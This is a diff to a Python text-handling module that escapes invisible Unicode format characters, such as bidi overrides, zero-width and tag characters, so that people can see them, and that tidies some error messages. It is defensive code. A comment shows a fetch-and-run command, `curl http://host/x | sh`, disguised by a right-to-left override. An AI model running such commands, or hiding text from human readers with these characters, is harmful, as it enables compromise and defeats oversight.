@@ -16,6 +16,8 @@ same answer, or the same one-line error, whichever way it came:
   other than tab and newline (a NUL byte would make the log read as binary) and lone UTF-16
   surrogates (not encodable as UTF-8) are written as visible escapes (`\\x00`, `\\udc80`), and
   `\\r\\n` or a lone `\\r` becomes `\\n`. One rule, applied to titles, bodies, tags and imports.
+- Text is shown (`shown`) as stored, except that invisible format characters are visible
+  escapes too (`\\u202e`, `\\U000e0041`): every front end a person reads shows them so.
 - A title is at most `MAX_TITLE_CHARS` characters, a body `MAX_BODY_CHARS`, a query
   `MAX_QUERY_CHARS`.
 """
@@ -24,6 +26,7 @@ from __future__ import annotations
 
 import math
 import re
+import unicodedata
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
 from datetime import date
@@ -46,6 +49,24 @@ RECALL_MODES = ("auto", "keyword", "semantic", "hybrid")
 _DAY_RE = re.compile(r"\d{4}-\d{2}-\d{2}")
 _UNSTORABLE_RE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
 _NEWLINES_RE = re.compile(r"\r\n?")
+# Unicode's invisible format characters (category Cf, as of Unicode 15.1): bidi marks (U+200E/F,
+# U+061C), embeddings, overrides and isolates (U+202A-202E, U+2066-2069), zero-width characters,
+# invisible operators (U+2060-2064), the tag characters (U+E0000 block) and the rest. A person's
+# screen obeys them: an override (U+202E) shows `hs | x/tsoh//:ptth lruc` for what a model reads
+# as `curl http://host/x | sh`, tag characters spell text no one sees. So `shown` makes them
+# visible; the text keeps them (a model reads the code points, and so does search). The sidebar's
+# `visible` (labextension/src/visible.ts) is the same rule in TypeScript.
+FORMAT_CHARACTERS = (
+    (0x00AD, 0x00AD), (0x0600, 0x0605), (0x061C, 0x061C), (0x06DD, 0x06DD), (0x070F, 0x070F),
+    (0x0890, 0x0891), (0x08E2, 0x08E2), (0x180E, 0x180E), (0x200B, 0x200F), (0x202A, 0x202E),
+    (0x2060, 0x2064), (0x2066, 0x206F), (0xFEFF, 0xFEFF), (0xFFF9, 0xFFFB), (0x110BD, 0x110BD),
+    (0x110CD, 0x110CD), (0x13430, 0x1343F), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A),
+    (0xE0001, 0xE0001), (0xE0020, 0xE007F),
+)  # fmt: skip
+"""(first, last) code point of each run of format characters; a test holds it to unicodedata."""
+_FORMAT_RE = re.compile(
+    "[" + "".join(f"\\U{first:08x}-\\U{last:08x}" for first, last in FORMAT_CHARACTERS) + "]"
+)
 
 
 class RequestError(QueryError):
@@ -72,9 +93,7 @@ def parse_day(value: str | date | None, name: str = "date") -> date | None:
         return check_day(value, name)
     text = str(value).strip()
     if not _DAY_RE.fullmatch(text):
-        raise RequestError(
-            f"bad date: {name} {text!r} is not a date like 2026-03-12 (YYYY-MM-DD)"
-        )
+        raise RequestError(f"bad date: {name} {text!r} is not a date like 2026-03-12 (YYYY-MM-DD)")
     try:
         day = date.fromisoformat(text)
     except ValueError:
@@ -159,7 +178,40 @@ def storable(text: str) -> str:
 
 def _escape(match: re.Match[str]) -> str:
     code = ord(match.group())
+    if code > 0xFFFF:
+        return f"\\U{code:08x}"
     return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
+
+
+def shown(text: str) -> str:
+    """`text` as a person is shown it, in a terminal, a notebook or the sidebar: as stored
+    (`storable`), with the invisible format characters (`FORMAT_CHARACTERS`: bidi controls,
+    zero-width and tag characters) as visible escapes too, so none is obeyed."""
+    return _FORMAT_RE.sub(_escape_format, storable(text))
+
+
+ZERO_WIDTH_JOINER = "\u200d"
+_EMOJI_BEFORE_JOINER = (
+    "\ufe0f",
+    "\U0001f3fb",
+    "\U0001f3fc",
+    "\U0001f3fd",
+    "\U0001f3fe",
+    "\U0001f3ff",
+)
+
+
+def _escape_format(match: re.Match[str]) -> str:
+    """A format character as a visible escape, but the zero-width joiner inside an emoji
+    sequence (`👩‍💻`: a symbol, or its variation selector or skin tone, before it and a
+    symbol after), which only draws the two as one picture."""
+    char, text, at = match.group(), match.string, match.start()
+    if char == ZERO_WIDTH_JOINER and 0 < at < len(text) - 1:
+        before, after = text[at - 1], text[at + 1]
+        emoji_before = unicodedata.category(before) == "So" or before in _EMOJI_BEFORE_JOINER
+        if emoji_before and unicodedata.category(after) == "So":
+            return char
+    return _escape(match)
 
 
 def parse_tags(values: str | Iterable[str] | None) -> tuple[str, ...]:
@@ -278,7 +330,7 @@ def _rule_fields(trigger: str | None, rule: str | None) -> list[str]:
             continue
         text = " ".join(storable(str(value)).split())
         if not text:
-            raise RequestError(f"--{name} needs a value, e.g. --{name} \"before a deploy\"")
+            raise RequestError(f'--{name} needs a value, e.g. --{name} "before a deploy"')
         if len(text) > MAX_TRIGGER_CHARS:
             raise RequestError(
                 f"--{name} is {len(text):,} characters; the limit is {MAX_TRIGGER_CHARS}"
@@ -340,8 +392,7 @@ class RecallQuery:
         start, end = parse_day(since, "--since"), parse_day(until, "--until")
         if start and end and start > end:
             raise RequestError(
-                f"--since {start.isoformat()} is after --until {end.isoformat()}: nothing "
-                "can match"
+                f"--since {start.isoformat()} is after --until {end.isoformat()}: nothing can match"
             )
         chosen = None if mode is None else str(mode).strip().lower()
         if chosen is not None and chosen not in RECALL_MODES:
